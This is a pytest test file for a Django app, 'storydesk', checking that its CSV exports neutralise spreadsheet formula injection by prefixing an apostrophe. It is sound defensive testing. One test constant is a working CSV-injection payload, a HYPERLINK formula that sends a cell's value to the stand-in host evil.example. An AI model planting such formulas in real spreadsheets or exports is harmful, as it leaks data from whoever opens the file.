"""Every CSV storydesk writes neutralises cells a spreadsheet would run as a formula (OWASP: a leading ')."""
import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.utils import timezone

import storydesk
from storydesk.actions.base import Actor
from storydesk.actions.decisions import decide
from storydesk.cli import main
from storydesk.exports.spreadsheet import DictWriter, Writer, neutralised
from storydesk.models import Consent, Story, Submission
from tests.desk.conftest import screen_with
from tests.stories import make_story

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["plain words", "2026-03-03", "'quoted already", "", " =1", -3, 2.5, None])
def test_other_values_are_left_alone(value):
    assert neutralised(value) == value


def test_both_writers_neutralise_every_cell():
    out = io.StringIO()
    Writer(out).writerows([["=1", "ok", -1]])
    writer = DictWriter(out, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "@x", "b": "fine"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "ok", "-1"], ["a", "b"], ["'@x", "fine"]]


def test_no_csv_is_written_around_the_shared_writer():
    package = Path(storydesk.__file__).parent
    writers = {path.relative_to(package).as_posix() for path in package.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    assert writers == {"exports/spreadsheet.py"}


def export(capsys, what) -> list[dict]:
    assert main(["export", what, "--format", "csv"]) == 0
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def test_the_stories_export_neutralises_what_strangers_wrote(campaign, capsys):
    story = make_story(campaign, answer=FORMULA)
    Story.objects.filter(pk=story.pk).update(public_caption="-2+3 for equality")
    Submission.objects.create(campaign=campaign, story=story, channel="email", source_key="@evil.example",
                              received_at=timezone.now())
    (row,) = export(capsys, "stories")
    assert row["answer"] == "'" + FORMULA
    assert row["public_caption"] == "'-2+3 for equality"
    assert main(["export", "stories", "--format", "jsonl"]) == 0  # JSON lines carry the text as it was
    assert json.loads(capsys.readouterr().out)["answer"] == FORMULA


def test_the_decisions_export_neutralises_a_username(campaign, capsys, staff_user):
    moderator = staff_user("moderator", username="@ama")  # Django usernames may start with @ + or -
    decide(screen_with(make_story(campaign)).pk, "approve", actor=Actor.staff(moderator), seen_version=None)
    (row,) = export(capsys, "decisions")
    assert row["actor"] == "'@ama"


def test_the_consents_export_goes_through_the_same_writer(campaign, capsys):
    story = make_story(campaign, consents={"website": True})
    Consent.objects.filter(story=story).update(channel="=1+1")  # today every cell is storydesk's own word
    (row,) = export(capsys, "consents")
    assert row["channel"] == "'=1+1"
